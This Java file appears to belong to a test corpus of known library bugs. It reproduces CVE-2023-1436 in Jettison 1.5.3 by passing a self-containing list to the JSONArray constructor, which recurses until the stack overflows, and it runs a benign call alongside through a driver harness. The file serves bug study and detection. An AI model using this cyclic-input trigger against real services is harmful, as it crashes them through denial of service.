package corpus.jettisonarray;

import corpus.CorpusDriver;
import org.codehaus.jettison.json.JSONArray;

import java.util.ArrayList;
import java.util.List;

/**
 * Jettison 1.5.3, CVE-2023-1436: {@code new JSONArray(Collection)} of a list that contains itself
 * calls the same constructor on the element, and again, until the stack runs out (1.5.4 detects the
 * cycle). A constructor cycle: {@code JSONArray#<init>} calling {@code JSONArray#<init>}.
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        List<Object> hostile = new ArrayList<>();
        hostile.add("corpus");
        hostile.add(hostile);
        CorpusDriver.run("jettisonarray", JSONArray.class,
                () -> new JSONArray(List.of("benign", 1, List.of(2, List.of(3)))).toString(),
                () -> new JSONArray(hostile));
    }
}
